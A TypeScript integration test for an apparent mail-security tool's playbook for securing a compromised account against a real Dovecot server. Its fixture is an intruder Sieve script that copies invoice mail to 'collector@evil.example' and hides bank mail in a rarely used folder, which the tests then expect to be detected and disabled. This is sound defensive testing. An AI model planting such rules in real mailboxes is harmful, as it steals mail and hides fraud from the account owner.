import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { AuditRecord } from '../../src/audit/index.js';
import { external, sendThroughPolicy } from '../outbound/send-helper.js';
import { type BesideDovecot, startMailwardenBesideDovecot } from '../support/beside-dovecot.js';
import { freePort } from '../support/cli-process.js';
import { type DovecotImapHarness, missingDovecotParts } from '../support/dovecot-imap-harness.js';
import { heldImapSession } from '../support/imap-held-session.js';
import { addUser, cliActor, createTestApp, type TestApp } from '../support/test-app.js';

const ALICE = { login: 'alice@example.org', password: 'alice-imap-password' };
const ADMIN = 'admin@example.org';
const SECRET = 'secure-account-test-secret';
/** What the intruder leaves behind: a copy of invoices to an outsider, and the bank's mail hidden. */
const INTRUDER_SCRIPT = [
  'require ["copy", "fileinto", "imap4flags"];',
  'if header :contains "subject" "invoice" { redirect :copy "collector@evil.example"; }',
  'if address :domain "from" "bank.example" { addflag "\\\\Seen"; fileinto "RSS Feeds"; stop; }',
  '',
].join('\n');

function doveadm(conf: string, args: string[], input = ''): Promise<{ status: number; stdout: string }> {
  return new Promise((resolve) => {
    const child = execFile('doveadm', ['-c', conf, ...args], { encoding: 'utf8' }, (error, stdout, stderr) =>
      resolve({ status: error ? 1 : 0, stdout: stdout + stderr }),
    );
    child.stdin?.end(input);
  });
}

const missing = missingDovecotParts();
const skip = missing.length > 0 ? `not installed: ${missing.join(', ')} (.ci/run installs them)` : false;

describe('securing a compromised account against a real Dovecot (doveadm HTTP API)', { skip }, () => {
  let testApp: TestApp;
  let dovecot: DovecotImapHarness;
  let conf: string;
  let token: string;
  let url: string;

  const api = (method: string, route: string, body?: unknown) =>
    fetch(`${url}/api/v1${route}`, {
      method,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });

  let besideDovecot: BesideDovecot | undefined;
  before(async () => {
    besideDovecot = await startMailwardenBesideDovecot({ eventsSecret: SECRET, users: [ALICE] });
    ({ testApp, dovecot, url } = besideDovecot);
    // The intruder's forwarding rule must stay in place for the playbook to find: the default policy
    // allows forwarding here; the last test shows a policy that does not.
    assert.ok(
      (await testApp.app.outbound.setPolicy('default', { settings: { externalForwarding: 'on' } }, cliActor))
        .ok,
    );
    await addUser(testApp.app, ADMIN, 'admin password 12345', { role: 'admin' });
    const created = await testApp.app.directory.createApiToken(
      { name: 'responder', role: 'admin' },
      cliActor,
    );
    assert.ok(created.ok);
    token = created.token;
    conf = path.join(dovecot.workDir, 'dovecot', 'dovecot.conf');
    const put = await doveadm(conf, ['sieve', 'put', '-u', ALICE.login, '-a', 'mail-rules'], INTRUDER_SCRIPT);
    assert.equal(put.status, 0, put.stdout);
    const vacation = 'require "vacation";\nvacation :days 3 "I am away until Monday.";\n';
    assert.equal((await doveadm(conf, ['sieve', 'put', '-u', ALICE.login, 'away'], vacation)).status, 0);
  });
  after(() => besideDovecot?.stop());

  test('the inbox rules are read from Dovecot and the forwarding and hiding rules named', async () => {
    const response = await api('GET', `/users/${ALICE.login}/inbox-rules`);
    assert.equal(response.status, 200);
    const body = (await response.json()) as {
      scripts: Array<{
        name: string;
        active: boolean;
        suspicious: boolean;
        findings: Array<{ kind: string }>;
      }>;
    };
    const byName = new Map(body.scripts.map((script) => [script.name, script]));
    assert.deepEqual(
      byName.get('mail-rules')?.findings.map((finding) => finding.kind),
      ['external-forwarding', 'marks-read', 'moves-to-rarely-used-folder'],
    );
    assert.equal(byName.get('mail-rules')?.active, true);
    assert.equal(byName.get('mail-rules')?.suspicious, true);
    assert.deepEqual(byName.get('away'), {
      name: 'away',
      active: false,
      includedByActive: false,
      findings: [],
      suspicious: false,
    });
  });

  test('the playbook denies, disables the rules, kicks the open IMAP session and releases, each step audited', async () => {
    const app = testApp.app;
    const alice = (await app.directory.findUser(ALICE.login))!;
    const policy = await app.outbound.setPolicy('default', { settings: { externalPerHour: 2 } }, cliActor);
    assert.ok(policy.ok);
    await sendThroughPolicy(app, alice, external(3));
    assert.equal(await app.outbound.isRestricted(alice.id), true);
    const appPassword = await app.identity.createAppPassword(
      alice.address,
      { name: 'phone', scopes: ['imap', 'smtp'] },
      cliActor,
    );
    assert.ok(appPassword.ok, JSON.stringify(appPassword));

    const intruder = heldImapSession(dovecot.imapPort, ALICE.login, ALICE.password);
    try {
      assert.equal(await intruder.ready(), 'logged-in');
      assert.equal(await intruder.probe(), 'connected');

      const response = await api('POST', `/users/${ALICE.login}/secure`, {
        release: { reason: 'phished; password reset, rules removed' },
      });
      assert.equal(response.status, 200);
      const body = (await response.json()) as {
        complete: boolean;
        temporaryPassword: string;
        steps: Array<{ step: string; status: string; detail: string }>;
      };
      assert.deepEqual(
        body.steps.map((step) => [step.step, step.status]),
        [
          ['reset-password', 'done'],
          ['require-mfa', 'done'],
          ['revoke-api-tokens', 'unchanged'],
          ['disable-inbox-rules', 'done'],
          ['end-mail-sessions', 'done'],
          ['release', 'done'],
        ],
        JSON.stringify(body.steps),
      );
      assert.equal(body.complete, true);
      assert.match(body.temporaryPassword, /^[A-Za-z2-9]{5}(-[A-Za-z2-9]{5}){3}$/);
      assert.match(body.steps[0]!.detail, /app passwords revoked: phone/);

      // Dovecot: no script runs any more, and both are still there for the investigation.
      const listed = await doveadm(conf, ['sieve', 'list', '-u', ALICE.login]);
      assert.doesNotMatch(listed.stdout, /ACTIVE/);
      assert.match(listed.stdout, /mail-rules/);
      assert.match(listed.stdout, /away/);
      // The intruder's client was disconnected by the server.
      assert.match(await intruder.disconnected(), /^disconnected/);
    } finally {
      intruder.stop();
    }

    assert.equal(await app.outbound.isRestricted(alice.id), false);
    const appPasswords = await app.identity.listAppPasswords(alice.address);
    assert.ok(appPasswords.ok);
    assert.deepEqual(appPasswords.appPasswords, [], 'no app password is left working');
    const records = (await app.audit.search({ mailbox: ALICE.login, limit: 100 })).records;
    const byOperation = (operation: string) => records.filter((record) => record.operation === operation);
    for (const operation of ['ResetPassword', 'EnforceMfa', 'ReleaseSender', 'EndMailSessions'])
      assert.equal(byOperation(operation).length, 1, operation);
    const [disabled] = byOperation('DisableInboxRules');
    assert.equal(disabled?.actor, 'token:responder');
    assert.deepEqual(disabled?.details?.['forwardingRemoved'], ['collector@evil.example']);
    const [summary] = byOperation('SecureAccount');
    assert.equal(summary?.result, 'success');
    assert.deepEqual(
      ((summary?.details?.['steps'] ?? []) as Array<{ step: string }>).map((step) => step.step),
      [
        'reset-password',
        'require-mfa',
        'revoke-api-tokens',
        'disable-inbox-rules',
        'end-mail-sessions',
        'release',
      ],
    );
  });

  test('with nothing left to disable and nobody connected, the mail steps say so and change nothing', async () => {
    const outcome = await testApp.app.respond.secureAccount(ALICE.login, {}, cliActor);
    assert.ok(outcome.ok);
    assert.deepEqual(
      outcome.steps.filter((step) => step.step !== 'reset-password').map((step) => [step.step, step.status]),
      [
        ['require-mfa', 'unchanged'],
        ['revoke-api-tokens', 'unchanged'],
        ['disable-inbox-rules', 'unchanged'],
        ['end-mail-sessions', 'unchanged'],
        ['release', 'skipped'],
      ],
    );
  });

  test('a user Dovecot does not know has no rules, and an unreachable doveadm is named, not thrown', async () => {
    await addUser(testApp.app, 'carol@example.org');
    const carol = await testApp.app.respond.inboxRules('carol@example.org');
    assert.ok(carol.ok, JSON.stringify(carol));
    assert.deepEqual(carol.scripts, []);

    const unreachable = await createTestApp('sqlite', {
      overrides: {
        'dovecot.doveadmUrl': `http://127.0.0.1:${await freePort()}/doveadm/v1`,
        'dovecot.doveadmApiKey': 'k',
      },
    });
    try {
      await addUser(unreachable.app, ALICE.login);
      const rules = await unreachable.app.respond.inboxRules(ALICE.login);
      assert.equal(!rules.ok && rules.code, 'mail-server-unavailable');
      const secured = await unreachable.app.respond.secureAccount(ALICE.login, {}, cliActor);
      assert.ok(secured.ok);
      assert.deepEqual(
        secured.steps.map((step) => [step.step, step.status]),
        [
          ['reset-password', 'done'],
          ['require-mfa', 'done'],
          ['revoke-api-tokens', 'unchanged'],
          ['disable-inbox-rules', 'failed'],
          ['end-mail-sessions', 'failed'],
          ['release', 'skipped'],
        ],
      );
      const [summary] = (await unreachable.app.audit.search({ operations: ['SecureAccount'], limit: 1 }))
        .records;
      assert.equal(summary?.result, 'failure');
    } finally {
      await unreachable.cleanup();
    }
  });

  test('where the sending policy turns automatic external forwarding off, a forwarding rule is deactivated as soon as Dovecot reports it', async () => {
    const app = testApp.app;
    const dana = 'dana@example.org';
    await addUser(app, dana);
    const policy = await app.outbound.setPolicy(
      'no-forwarding',
      { settings: { externalForwarding: 'off' }, scope: { users: [dana] }, priority: 1 },
      cliActor,
    );
    assert.ok(policy.ok, JSON.stringify(policy));
    // Forwarding inside the organization is allowed: it stays active.
    const internal = await doveadm(
      conf,
      ['sieve', 'put', '-u', dana, '-a', 'to-team'],
      'redirect "alice@example.org";\n',
    );
    assert.equal(internal.status, 0, internal.stdout);
    const outside = 'require "copy";\nredirect :copy "dana.private@gmail.example";\n';
    const put = await doveadm(conf, ['sieve', 'put', '-u', dana, '-a', 'to-gmail'], outside);
    assert.equal(put.status, 0, put.stdout);
    const deadline = Date.now() + 20_000;
    let listed = '';
    for (;;) {
      listed = (await doveadm(conf, ['sieve', 'list', '-u', dana])).stdout;
      if (!/ACTIVE/.test(listed) || Date.now() > deadline) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    assert.doesNotMatch(listed, /ACTIVE/, `still active: ${listed}\n${dovecot.log().slice(-2000)}`);
    assert.match(listed, /to-gmail/, 'kept, not deleted');
    const [stopped] = (await app.audit.search({ mailbox: dana, operations: ['DisableInboxRules'], limit: 5 }))
      .records;
    assert.equal(stopped?.actor, 'system');
    assert.equal(stopped?.details?.['policy'], 'no-forwarding');
    assert.deepEqual(stopped?.details?.['forwardingRemoved'], ['dana.private@gmail.example']);
    assert.equal(
      stopped?.details?.['reason'],
      'external forwarding is off in the sending policy "no-forwarding"',
    );
    // Dovecot's event of that deactivation (doveadm's) is Mailwarden's own: not a second record. A
    // script saved afterwards marks when the events before it are in.
    const marker = await doveadm(conf, ['sieve', 'put', '-u', dana, 'marker'], 'keep;\n');
    assert.equal(marker.status, 0, marker.stdout);
    const markerDeadline = Date.now() + 20_000;
    let changes: AuditRecord[] = [];
    for (;;) {
      changes = (await app.audit.search({ mailbox: dana, operations: ['UpdateInboxRules'], limit: 100 }))
        .records;
      if (changes.some((record) => record.details?.['script'] === 'marker')) break;
      if (Date.now() > markerDeadline) assert.fail(`the marker never arrived\n${dovecot.log().slice(-2000)}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    assert.deepEqual(
      changes.filter((record) => record.details?.['action'] === 'deactivate'),
      [],
      'deactivated once, recorded once (DisableInboxRules)',
    );
    const [alert] = await app.alerts.list({ mailbox: dana });
    assert.equal(alert?.type, 'external-forwarding-rule');
    assert.equal(alert?.evidence['sendingPolicy'], 'no-forwarding');
    assert.equal(alert?.evidence['externalForwarding'], 'off');
    // The internal forward was the active script until then, and raised nothing of its own.
    assert.equal((await app.alerts.list({ mailbox: dana })).length, 1);
  });
});
